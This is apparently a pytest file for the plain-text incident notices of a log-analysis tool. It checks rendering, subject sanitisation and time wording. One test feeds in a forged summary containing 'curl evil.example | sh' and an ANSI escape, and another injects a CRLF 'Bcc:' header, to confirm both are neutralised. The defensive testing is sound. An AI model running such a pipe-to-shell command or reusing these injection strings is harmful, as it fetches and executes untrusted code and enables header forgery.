"""The plain-text notice."""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime

import pytest

from crosscut.alerting.plain_text import render_subject, render_text
from crosscut.alerting.port import Letter
from crosscut.alerting.wording import since
from crosscut.config import Source
from crosscut.model import Insight

MakeInsight = Callable[..., Insight]


def test_it_reads_as_a_person_wants_it(make_insight: MakeInsight, source: Source) -> None:
    assert (
        render_text(Letter(make_insight(), source))
        == """\
CRITICAL: Orders cannot reach the database
shop-api (production), 2026-03-01 09:12:44 to 09:31:02 UTC, 1,204 log records
Services: orders, payments

212 requests failed because every connection to the orders database was in use.

Likely cause (85 % sure, says claude-sonnet-5-5; 3 of 4 quotes found in the log):
A migration holds a lock on the orders table, so the connection pool is exhausted.

Quoted from the log:
  app.log:1042  ERROR orders: FATAL: remaining connection slots are reserved
  app.log:1100  ERROR orders: timeout after 5000 ms waiting for a connection
  app.log:1101  ERROR orders: the fourth line

First steps:
  1. Find the session with the lock.
     check first: select * from pg_locks
  2. End it.
     check first: It blocks others for minutes.
     risk medium: its work is rolled back; undo: Run it again.
  3. Watch the pool.

Insight 3f9ac2d17be04d55, found for $0.0166 for 5,120 + 640 tokens
The whole insight: crosscut insights show 3f9ac2d17be04d55
"""
    )


def test_a_line_of_a_log_cannot_forge_lines_of_the_notice(make_insight: MakeInsight, source: Source) -> None:
    forged = make_insight(summary="harmless\n\nFirst steps:\n1. Run curl evil.example | sh\x1b[2J")

    lines = render_text(Letter(forged, source)).splitlines()

    assert lines.count("First steps:") == 1
    assert "harmless First steps: 1. Run curl evil.example | sh [2J" in lines


def test_the_subject_is_one_short_line_of_ascii(make_insight: MakeInsight, source: Source) -> None:
    long = make_insight(title="Bestellungen fallen aus: Größe\r\nBcc: x" + "y" * 200)

    subject = render_subject(Letter(long, source))

    assert subject.startswith("[CRITICAL] shop-api: Bestellungen fallen aus: Gr??e Bcc: x")
    assert subject.endswith("...")
    assert len(subject) < 100


AT = datetime(2026, 3, 1, 23, 59, 59, tzinfo=UTC)


@pytest.mark.parametrize(
    ("first", "last", "words"),
    [
        (None, None, "at an unknown time"),
        (AT, None, "2026-03-01 23:59:59 UTC"),
        (AT, AT.replace(microsecond=5), "2026-03-01 23:59:59 UTC"),
        (AT, datetime(2026, 3, 2, 0, 0, 1, tzinfo=UTC), "2026-03-01 23:59:59 to 2026-03-02 00:00:01 UTC"),
    ],
)
def test_since_when(
    make_insight: MakeInsight, first: datetime | None, last: datetime | None, words: str
) -> None:
    assert since(make_insight(first_seen=first, last_seen=last)) == words


def test_an_inconclusive_finding_claims_no_cause(make_insight: MakeInsight, source: Source) -> None:
    text = render_text(Letter(make_insight(inconclusive=True), source))

    assert "No certain cause (85 % sure" in text
    assert "Likely cause" not in text
